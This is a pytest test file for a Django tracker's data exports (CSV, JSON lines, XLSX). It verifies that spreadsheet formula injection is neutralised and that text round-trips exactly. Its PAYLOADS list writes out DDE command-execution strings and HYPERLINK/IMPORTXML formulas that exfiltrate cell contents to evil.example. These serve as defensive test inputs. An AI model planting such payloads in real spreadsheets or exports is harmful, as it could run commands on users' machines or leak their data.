"""A text that a spreadsheet could run is defused, can be had back exactly, and nothing else is touched."""

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta, timezone

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from hypothesis import example, given
from hypothesis import strategies as st

from tests.public.data.files import fetch, read_csv, read_json, read_sheets
from tests.support.founding import LAPSE
from tests.support.records import make_pledge, make_source, make_user
from tracker.public.data import tables, writers
from tracker.public.data.cells import cell, is_dangerous, no_more_exact
from tracker.public.data.columns import Value
from tracker.public.data.views import Sent
from tracker.public.moment import Moment

SIGNS = "=+-@|＝＋－＠｜﹦﹢﹣﹫⁼⁺⁻−"
BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " \t ",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u202e",
    "\u2066",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u061c",
    "\u180e",
    "\ufe0f",
    "\U000e0100",
    "\u034f",
    "\u3164",
    "\x00",
    "\x0b",
    "\x1f",
    "\x85",
    "\u2028",
    "'",
    "''",
    "' ",
    " \u200b'\ufeff",
)
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    '=HYPERLINK("https://evil.example?x="&A1,"See")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "\tno formula, but a break",
    '<r></is></c><c r="B2"><f>1+1</f></c><c><is></r>',
)
HARMLESS = (
    "",
    "ستسلّم اللجنة تقريرها",
    "1=1",
    "a|b",
    "e-mail",
    "'quoted'",
    "' quoted'",
    "  indented",
    "–5 is a dash",
    "https://news.example/?a=-1",
    "\u200fالرئاسة",
    "_x0041_",
    "<b>",
)


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", BEFORE)
def test_every_sign_is_seen_behind_everything_that_is_not(before: str, sign: str) -> None:
    assert cell(f"{before}{sign}1") == f"'{before}{sign}1"


@pytest.mark.parametrize("words", HARMLESS)
def test_other_texts_stay_as_they_are(words: str) -> None:
    assert cell(words) == words


def undone(words: str) -> str:
    return words[1:] if words.startswith("'") and is_dangerous(words) else words


@given(st.text())
@example("'=1")
@example("''=1")
@example("'")
@example("'<r>x</r>")
def test_taking_one_apostrophe_off_gives_the_exact_words(words: str) -> None:
    assert undone(cell(words)) == words


@given(st.text())
def test_no_cell_starts_with_a_sign(words: str) -> None:
    assert (
        not cell(words)
        .lstrip("\x00 ")
        .startswith(("=", "+", "-", "@", "|", "\t", "\r", "＝", "＋", "－", "＠"))
    )


@pytest.mark.parametrize(
    ("value", "told"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (12, "12"),
        (date(2025, 4, 8), "2025-04-08"),
        (datetime(2025, 4, 8, 21, 0, tzinfo=UTC), "2025-04-08T21:00:00.000000Z"),
        (
            datetime(2025, 4, 8, 23, 59, 59, 999999, tzinfo=timezone(timedelta(hours=3))),
            "2025-04-08T20:59:59.999999Z",
        ),
        ([], ""),
        (["a", "b"], "a;b"),
        ([1, 20], "1;20"),
        ([{"field": "title", "before": "ا"}], '[{"field": "title", "before": "ا"}]'),
    ],
)
def test_values(value: Value, told: str) -> None:
    assert cell(value) == told


@pytest.mark.parametrize(
    ("precision", "told"), [("day", "2025-03-09"), ("month", "2025-03"), ("year", "2025")]
)
def test_a_day_is_told_no_more_exactly_than_it_is_known(precision: str, told: str) -> None:
    assert no_more_exact(date(2025, 3, 9), precision) == told


@pytest.mark.django_db
def test_payloads_come_through_all_the_files(client: Client) -> None:
    author = make_user()
    source = make_source(actor=author, title="=2+2", publisher="@evil")
    pledges = {make_pledge(quote=words, source=source).reference: words for words in PAYLOADS}
    exact = {row["reference"]: row["quote"] for row in read_json(client, "pledges")}
    assert exact == pledges
    plain = {row["reference"]: row["quote"] for row in read_csv(client, "pledges")}
    # What begins with a break begins a cell after it, too.
    assert plain == {
        reference: f"'{words[0]}'{words[1:]}" if words[:2] in ("\t=", "\r=", "\n=") else f"'{words}"
        for reference, words in pledges.items()
    }
    assert {(row["title"], row["publisher"]) for row in read_csv(client, "sources")} == {("'=2+2", "'@evil")}
    book = openpyxl.load_workbook(io.BytesIO(fetch(client, "/data/record.xlsx")))
    cells = [each for sheet in book for row in sheet.iter_rows() for each in row if each.value is not None]
    assert {each.data_type for each in cells} <= {"s", "inlineStr"}
    assert [each for each in cells if each.hyperlink] == []
    column = book["pledges"]["D"][1:]
    assert [each.value for each in column] == [f"'{words}".replace("\r", "\n") for words in PAYLOADS]


@pytest.mark.django_db
def test_a_workbook_holds_no_formula_no_link_and_nothing_from_elsewhere(client: Client) -> None:
    for words in PAYLOADS:
        make_pledge(quote=words, note=words, title=words[:100])
    with zipfile.ZipFile(io.BytesIO(fetch(client, "/data/record.xlsx"))) as parts:
        xml = {name: parts.read(name).decode() for name in parts.namelist()}
    assert len([name for name in xml if "worksheets/sheet" in name]) == 6
    for name, text in xml.items():
        assert not [sign for sign in ("<f>", "<f ", "<hyperlink", "externalLink") if sign in text], name


@pytest.mark.django_db
def test_lines_and_quotes_in_a_text_break_no_row(client: Client) -> None:
    words = 'He said: "within, one\r\nmonth";\u2028 or\x85 later\n'
    make_pledge(quote=words, note="\x0b\x1b_x0041_\ufffe")
    [row] = read_csv(client, "pledges")
    assert row["quote"] == words
    [exact] = read_json(client, "pledges")
    assert (exact["quote"], exact["note"]) == (words, "\x0b\x1b_x0041_\ufffe")
    [sheet] = read_sheets(client, "pledges")["pledges"]
    assert sheet["quote"] == words.replace("\r", "")


@pytest.mark.django_db
def test_csv_is_as_rfc_4180_has_it(client: Client) -> None:
    make_pledge(quote="ستسلّم اللجنة تقريرها")
    raw = fetch(client, "/data/pledges.csv")
    assert raw.startswith(b"reference,url,")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 2
    widths = {len(row) for row in csv.reader(io.StringIO(raw.decode(), newline=""), strict=True)}
    assert len(widths) == 1


@pytest.mark.django_db
def test_what_a_cell_can_t_hold_is_cut_visibly(client: Client) -> None:
    fits, too_long = "ا" * 32_767, "x" + "𐎀" * 17_000
    make_pledge(quote=fits, note=too_long)
    [sheet] = read_sheets(client, "pledges")["pledges"]
    assert sheet["quote"] == fits
    assert sheet["note"].endswith("𐎀 […]")
    assert 32_765 <= len(sheet["note"].encode("utf-16-le")) / 2 <= 32_767
    [exact] = read_json(client, "pledges")
    assert exact["note"] == too_long


@pytest.mark.django_db
def test_what_a_sheet_can_t_hold_goes_on_in_the_next(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    names = [make_pledge(now=LAPSE).reference for _ in range(5)]
    for rows, sheets in ((6, [5]), (5, [4, 1]), (3, [2, 2, 1])):
        monkeypatch.setattr(writers, "SHEET_ROWS", rows)
        found = read_sheets(client, "pledges")
        assert [len(each) for each in found.values()] == sheets
        assert list(found)[:2] == ["pledges", "pledges 2"][: len(sheets)]
        assert [row["reference"] for each in found.values() for row in each] == names


@pytest.mark.django_db
def test_a_file_is_sent_in_pieces(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writers, "CHUNK", 500)
    monkeypatch.setattr(Sent, "block_size", 500)
    for _ in range(5):
        make_pledge()
    for ending in ("csv", "jsonl", "xlsx"):
        pieces = list(client.get(f"/data/pledges.{ending}"))
        assert len(pieces) >= 4, ending
        assert max(map(len, pieces)) < 3000


@pytest.mark.django_db
@pytest.mark.parametrize("write", [writers.csv_file, writers.json_lines])
def test_rows_are_read_while_they_are_sent(
    client: Client, monkeypatch: pytest.MonkeyPatch, write: Callable[..., Iterator[bytes]]
) -> None:
    """Two at a time: what was not sent yet is not in memory either."""
    monkeypatch.setattr(writers, "CHUNK", 1)
    monkeypatch.setattr(tables.pledges, "BATCH", 2)
    for _ in range(6):
        make_pledge()
    with CaptureQueriesContext(connection) as captured:
        pieces = write(tables.TABLES["pledges"], Moment.read())
        asked = []
        for piece in pieces:
            asked.append(len(captured))
            assert piece.count(b"\n") <= 1
    rows = asked[-7:-1]
    assert rows[0] == rows[1] < rows[2] == rows[3] < rows[4] == rows[5]
